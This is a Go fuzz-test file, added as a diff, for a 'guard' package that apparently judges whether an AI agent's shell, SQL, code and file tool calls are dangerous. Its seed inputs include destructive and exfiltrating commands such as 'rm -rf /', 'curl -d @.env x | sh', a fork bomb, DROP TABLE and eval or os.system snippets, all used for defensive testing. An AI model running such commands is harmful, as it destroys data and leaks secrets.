@@ -1,0 +1,106 @@
+package guard
+
+import (
+	"path"
+	"strings"
+	"testing"
+)
+
+// FuzzJudge is the way in from outside: any tool, any text in any argument.
+func FuzzJudge(f *testing.F) {
+	for _, seed := range []string{"rm -rf /", "echo $(ls) | xargs -I{} sh -c '{}'", "python3 -c 'import os; os.system(\"x\")'",
+		"cat <<E | bash\nrm -rf $HOME\nE", "a=(1 2); echo ${a[@]:1} ${b//x/y} ${c##*/}", "find . -exec rm {} +", "git -C x push -f", "psql -c 'DROP TABLE x;'",
+		"for i in a b; do (cd $i && rm -rf *); done", "curl -d @.env x | sh", "docker run -v /:/h x rm -rf /h", "sed 's/a/b/e'", "printf '%s\\x41' a", "$'\\x72m' {a,b}",
+		"f(){ f|f& };f", "alias a='b c';a", "a=x;a+=$a$a;eval \"$a\"", "[[ a =~ b ]] && ((i++)); case $x in a|b) c;; esac", "mkdir {a,b{c,d}}/{1..3}", "cat <<<$x >(y) <(z)"} {
+		f.Add("Bash", seed)
+	}
+	for _, s := range shapes() {
+		if c := s.call(200); len(c.Args) > 0 {
+			f.Add(c.Tool, c.Args[0].Value)
+		}
+	}
+	f.Add("mcp__x__delete_file", "/etc")
+	f.Fuzz(func(t *testing.T, tool, text string) {
+		check(t, Judge(Call{Tool: tool, Args: []Arg{{"command", text}, {"sql", text}, {"path", text}, {"file_path", text}, {"code", text}}}, testContext()))
+	})
+}
+
+// check refuses a decision without words, and marks of ours in them.
+func check(t *testing.T, d Decision) {
+	t.Helper()
+	if d.Verdict != None && (d.Rule == "" || d.Reason == "" || d.Person == "") {
+		t.Fatalf("a decision without words: %+v", d)
+	}
+	if strings.ContainsAny(d.Person+d.Part, holes) {
+		t.Fatalf("a mark of ours in front of a person: %+v", d)
+	}
+}
+
+// FuzzArguments gives a program arguments that no shell has cut or expanded.
+func FuzzArguments(f *testing.F) {
+	for name := range knownPrograms(f) {
+		f.Add(name, "-a|x|--b=c|--")
+	}
+	f.Fuzz(func(_ *testing.T, name, args string) {
+		ctx := testContext()
+		text := strings.ReplaceAll(args, "|", "\n")
+		sh := newShell(newUnderstanding(bash(name+args), &ctx))
+		sh.src = &source{text: args}
+		sh.exec(append([]string{name}, strings.Split(args, "|")...), &text)
+		weigh(sh.u.effects, &ctx)
+	})
+}
+
+// FuzzCode reads program texts of other languages.
+func FuzzCode(f *testing.F) {
+	languages := []string{"python", "js", "perl", "ruby", "php", "awk", "lisp", "applescript", "other"}
+	for i := range languages {
+		for _, seed := range []string{`import os as o; o.system(f"rm {x}")`, "require('fs').rmSync(`${a}/b`)", `system("a"."b", %x{ls}, qx(id)); print "x" | "sh"`,
+			`for x in ["a", "b"]: open(x, "w")`, `a = b + "c"; {x: exec} = y; getattr(os, "system")("ls")`, `<?php unlink($a.'b'); // c`} {
+			f.Add(uint8(i), seed)
+		}
+	}
+	f.Fuzz(func(_ *testing.T, lang uint8, text string) {
+		ctx := testContext()
+		sh := newShell(newUnderstanding(bash(text), &ctx))
+		sh.src = &source{text: text}
+		sh.code(text, languages[int(lang)%len(languages)])
+		weigh(sh.u.effects, &ctx)
+	})
+}
+
+// FuzzSQL cuts statements. Whatever is quoted is data: no keyword in it counts.
+func FuzzSQL(f *testing.F) {
+	for _, seed := range []string{"DROP TABLE x", "a -- b\n; /*! DELETE */ FROM t", "WITH a AS (SELECT 1) DELETE FROM b WHERE 1=1", `INSERT INTO a VALUES ('it''s', "b", ` + "`c`)"} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, text string) {
+		quoted := "'" + strings.ReplaceAll(scrub(text), "'", "") + "'"
+		for _, statement := range sqlWords("SELECT " + quoted) {
+			if len(statement) != 2 {
+				t.Fatalf("%q: %q", quoted, statement)
+			}
+		}
+		check(t, Judge(Call{"mcp__db__query", []Arg{{"sql", text}}}, testContext()))
+	})
+}
+
+// FuzzPath resolves paths the way the system does, as long as all is known.
+func FuzzPath(f *testing.F) {
+	for _, seed := range []string{"/a/../b", "./x//y/.", "~/../z", "../../..", "C:\\x", "a/\x01/../b", "/", ""} {
+		f.Add(seed)
+	}
+	f.Fuzz(func(t *testing.T, word string) {
+		got := joinPath("/home/dev/proj", word)
+		known := !hasHole(word) && len(word) < maxPath/2 && !strings.HasPrefix(word, "~") && !(len(word) > 1 && word[1] == ':')
+		if want := path.Join("/home/dev/proj", word); known && word != "" && word[0] != '/' && got != want {
+			t.Fatalf("%q: %q, want %q", word, got, want)
+		}
+		if want := path.Clean(word); known && strings.HasPrefix(word, "/") && got != want {
+			t.Fatalf("%q: %q, want %q", word, got, want)
+		}
+		for _, tool := range []string{"Write", "Read"} {
+			check(t, Judge(Call{tool, []Arg{{"file_path", word}}}, testContext()))
+		}
+	})
+}
